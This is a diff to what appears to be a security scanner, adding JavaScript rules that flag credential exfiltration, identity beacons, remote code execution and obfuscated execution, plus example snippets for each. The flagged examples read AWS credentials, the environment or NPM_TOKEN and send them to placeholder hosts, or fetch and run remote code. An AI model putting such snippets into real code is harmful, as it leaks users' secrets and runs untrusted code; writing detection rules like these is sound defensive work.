@@ -99,6 +99,55 @@ _FLOW_RULES = (
         "DNS exfiltration: a secret encoded into a host name that is looked up",
         "scripts/run.py",
     ),
+    Rule(
+        "js-flow.credential-to-network",
+        ("8.2",),
+        "critical",
+        "javascript-flow",
+        "exfiltration: credential files, cookies or the whole environment reach a network call "
+        "(fetch, axios, http, XMLHttpRequest, sendBeacon, WebSocket, DNS)",
+        "scripts/run.js",
+    ),
+    Rule(
+        "js-flow.identity-beacon",
+        ("8.2",),
+        "moderate",
+        "javascript-flow",
+        "beacon: the user's or host's identity is reported to a remote host",
+        "scripts/run.js",
+    ),
+    Rule(
+        "js-flow.home-data-to-network",
+        ("8.2",),
+        "moderate",
+        "javascript-flow",
+        "exfiltration: data read from the user's home directory is sent over the network",
+        "scripts/run.js",
+    ),
+    Rule(
+        "js-flow.remote-code-exec",
+        ("9.1",),
+        "critical",
+        "javascript-flow",
+        "remote code execution: downloaded text reaches eval, new Function, vm or child_process",
+        "scripts/run.js",
+    ),
+    Rule(
+        "js-flow.decoded-exec",
+        ("9.1", "9.2"),
+        "critical",
+        "javascript-flow",
+        "obfuscation: decoded (base64, hex, char codes) text is run as code or a command",
+        "scripts/run.js",
+    ),
+    Rule(
+        "js-flow.secret-to-network-command",
+        ("8.2",),
+        "high",
+        "javascript-flow",
+        "exfiltration: a secret is handed to a network program (curl, nc, scp) as a command",
+        "scripts/run.js",
+    ),
 )
 
 _DEPENDENCY_RULES = (
@@ -573,6 +622,74 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
         "scripts/run.py",
         ("import subprocess, sys\nsubprocess.run(f'git log {sys.argv[1]}', shell=True\n",),
         ("import subprocess, sys\nsubprocess.run(['git', 'log', sys.argv[1]]\n",),
+    ),
+    "js-flow.credential-to-network": (
+        "scripts/run.js",
+        (
+            "const fs = require('fs');\nconst os = require('os');\n"
+            "const c = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8');\n"
+            "fetch('https://collect.invalid/c', {method: 'POST', body: c});",
+            "const ws = new WebSocket('wss://collect.invalid');\n"
+            "const all = Object.assign({}, process.env);\nws.send(JSON.stringify(all));",
+        ),
+        (
+            "const fs = require('fs');\nconst c = fs.readFileSync('./report.json', 'utf8');\n"
+            "fetch('https://api.invalid/r', {method: 'POST', body: c});",
+        ),
+    ),
+    "js-flow.identity-beacon": (
+        "scripts/run.js",
+        (
+            "const os = require('os');\nconst who = os.userInfo().username;\n"
+            "fetch('https://collect.invalid/hi?h=' + os.hostname() + '&u=' + who);",
+        ),
+        ("const os = require('os');\nconsole.log(os.hostname());",),
+    ),
+    "js-flow.home-data-to-network": (
+        "scripts/run.js",
+        (
+            "const fs = require('fs');\nconst os = require('os');\n"
+            "const notes = fs.readFileSync(os.homedir() + '/Documents/notes.txt');\n"
+            "fetch('https://collect.invalid/n', {method: 'PUT', body: notes});",
+        ),
+        (
+            "const fs = require('fs');\nconst os = require('os');\n"
+            "const notes = fs.readFileSync(os.homedir() + '/Documents/notes.txt');\n"
+            "console.log(notes.length);",
+        ),
+    ),
+    "js-flow.remote-code-exec": (
+        "scripts/run.js",
+        (
+            "const { exec } = require('child_process');\n"
+            "fetch('https://cdn.invalid/step').then((r) => r.text()).then((t) => exec(t));",
+            "const r = await fetch('https://cdn.invalid/plugin.js');\n"
+            "const src = await r.text();\nconst run = new Function(src);\nrun();",
+        ),
+        (
+            "const r = await fetch('https://api.invalid/items');\n"
+            "const items = JSON.parse(await r.text());\nconsole.log(items.length);",
+        ),
+    ),
+    "js-flow.decoded-exec": (
+        "scripts/run.js",
+        (
+            "const s = atob('Y29uc29sZS5sb2coMSk=');\neval(s);",
+            "const cp = require('child_process');\n"
+            "cp.execSync(Buffer.from('6c73202d6c61', 'hex').toString());",
+        ),
+        ("const s = atob('aGVsbG8=');\nconsole.log(s);",),
+    ),
+    "js-flow.secret-to-network-command": (
+        "scripts/run.js",
+        (
+            "const { execSync } = require('child_process');\n"
+            "execSync(`curl -s -X POST -d ${process.env.NPM_TOKEN} https://collect.invalid`);",
+        ),
+        (
+            "const { execSync } = require('child_process');\n"
+            "execSync('curl -s https://api.invalid/health', { env: process.env });",
+        ),
     ),
 }
 
